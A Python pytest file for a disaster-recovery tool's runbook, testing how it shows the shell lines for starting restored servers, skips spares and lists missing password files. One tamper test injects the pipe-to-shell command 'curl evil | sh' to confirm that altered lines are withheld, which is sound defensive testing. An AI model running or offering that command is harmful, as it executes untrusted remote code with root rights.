"""Somebody has to start the new servers: the literal lines are shown when it is asked, and the check afterwards fails
where nobody did."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from syrupy.assertion import SnapshotAssertion
from tests.support.clocks import NOON
from tests.support.harness import Site
from tests.support.runbooks import ByHand
from tests.support.sealing import a_key

from ccdr.host.files import extent
from ccdr.jobs.recover.journal import Journal
from ccdr.jobs.recover.planned import Decision
from ccdr.jobs.restore.new_server import CHANGED, LEFT, OWN, LeftServer, digest_of, sums_of
from ccdr.jobs.runbook import people as shows
from ccdr.jobs.runbook.states import achieved
from ccdr.model.values import rfc3339
from ccdr.plans.runbook import Check, Manual
from ccdr.plans.runbook_made import runbook_of
from ccdr.plans.targets import Target
from ccdr.ports.new_server import Owner, StartLines

CRM = "crm: {engine: postgres, connection: {host: db1, user: ccdr, database: crm, password_file: crm.pw}}"
LINES = StartLines(
    ("apt-get install --yes postgresql", "pg_ctlcluster 17 crm start"),
    ("docker run --detach crm",),
    ("mariadb < memory.sql",),
    ("psql -U postgres",),
)


def left_at(home: Path) -> LeftServer:
    home.mkdir()
    (home / "control").write_text("as it was left")
    sums = sums_of(home, ["control"])
    left = LeftServer(
        "p",
        "crm",
        "r",
        "s",
        "m",
        home,
        "127.0.0.1",
        5432,
        home / "run",
        Owner(1, 1),
        "image",
        LINES,
        sums,
        extent(home, OWN),
    )
    left.write(home)
    return left


@pytest.fixture
def waiting(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Any, ...]:
    """A run in which crm was brought back, and that asks to start it."""
    site.plan(CRM)
    loaded, services = site.loaded(), site.services()
    home = tmp_path / "crm"
    left_at(home)
    planned = SimpleNamespace(
        asset="crm", spare_of=None, where=Target.model_validate({"new_server": {"directory": home}})
    )
    monkeypatch.setattr(Decision, "read", lambda _: SimpleNamespace(assets=(planned,)))
    began = {"plan": "p", "began": rfc3339(NOON + timedelta(seconds=5)), "assets": [{"asset": "crm"}]}
    journal = Journal.begin(services.state, "20260728T120005-aaaaaa", began, a_key)
    journal.reached("crm", "begun", NOON, 1.0, {"run": "r"})
    journal.reached("crm", "naming", NOON, 2.0, {"left_sha256": digest_of(home)})
    return loaded, services, home, ByHand(runbook_of(loaded.plan))


def loaded_home(waiting: tuple[Any, ...]) -> Path:
    return Path(waiting[2])


def test_the_made_runbook_asks_to_start_them_and_checks_them_once_more(site: Site) -> None:
    site.plan(CRM)
    made = runbook_of(site.loaded().plan)
    order = ByHand(made).standing.order
    assert order.index("check") < order.index("start") < order.index("check-opened") < order.index("repoint")
    again_ = made.steps["check-opened"]
    assert isinstance(again_, Check) and again_.of == "opened" and made.steps["repoint"].depends_on == ("check-opened",)
    run = ByHand(made).done("recover").done("check")
    assert achieved(run.standing).time is None
    assert achieved(run.done("start", answer="done").done("check-opened").standing).by == "check-opened"


@pytest.mark.parametrize(
    ("assets", "targets"),
    [
        ("rec: {engine: files, paths: [/srv/x]}", ""),
        (CRM, "targets: {crm: {new_server: {directory: /srv/new/crm, start: [pg_ctlcluster]}}}\n"),
        (CRM, "targets: {crm: {server: 'postgresql://u@db9/crm'}}\n"),
    ],
)
def test_where_nobody_has_to_start_anything_nobody_is_asked_to(site: Site, assets: str, targets: str) -> None:
    site.plan(assets, extra=targets)
    steps = runbook_of(site.loaded().plan).steps
    assert "start" not in steps and steps["repoint"].depends_on == ("check",)


def test_the_literal_lines_are_shown_while_nobody_has_started_it(waiting: tuple[Any, ...]) -> None:
    loaded, services, home, run = waiting
    step = shows.as_asked(run.runbook.steps["start"], loaded, services.state, run.events)
    assert isinstance(step, Manual)
    for line in (*LINES.debian, *LINES.docker, *LINES.then, *LINES.look):
        assert f"    {line}" in step.instructions
    (home / "control").write_text("it was started")
    step = shows.as_asked(run.runbook.steps["start"], loaded, services.state, run.events)
    assert isinstance(step, Manual) and step.instructions[-1].startswith("no new server of this run is left")


def test_lines_that_somebody_has_changed_since_are_not_shown(waiting: tuple[Any, ...]) -> None:
    """A person types them, as root."""
    loaded, services, home, run = waiting
    (home / LEFT).write_text((home / LEFT).read_text().replace(LINES.debian[0], "curl evil | sh"))
    step = shows.as_asked(run.runbook.steps["start"], loaded, services.state, run.events)
    assert isinstance(step, Manual) and f"crm: {CHANGED}" in step.instructions
    assert not any("evil" in line or line.strip() in LINES.docker for line in step.instructions)


def test_a_spare_is_not_to_be_started(waiting: tuple[Any, ...], monkeypatch: pytest.MonkeyPatch) -> None:
    loaded, services, home, run = waiting
    planned = SimpleNamespace(
        asset="crm", spare_of="whole", where=Target.model_validate({"new_server": {"directory": home}})
    )
    monkeypatch.setattr(Decision, "read", lambda _: SimpleNamespace(assets=(planned,)))
    step = shows.as_asked(run.runbook.steps["start"], loaded, services.state, run.events)
    assert isinstance(step, Manual) and f"    {LINES.debian[0]}" not in step.instructions
    assert any(line.startswith("crm: leave it, whole has the same data") for line in step.instructions)


def test_who_points_to_it_is_told_which_password_files_the_backup_lacks(
    waiting: tuple[Any, ...], site: Site, wording: SnapshotAssertion
) -> None:
    loaded, services, _, run = waiting
    step = run.runbook.steps["repoint"]
    said = "\n".join(shows.shown(step, loaded, services.state, run.events))
    assert f"{site.root / 'plans/crm.pw'} (crm)" in said
    assert f"host: db1 → {loaded_home(waiting)}/run" in said
    assert "leave connection.password_file out" in said
    site.write("plans/crm.pw", "x\n")
    said = "\n".join(shows.shown(step, loaded, services.state, run.events))
    assert said == wording
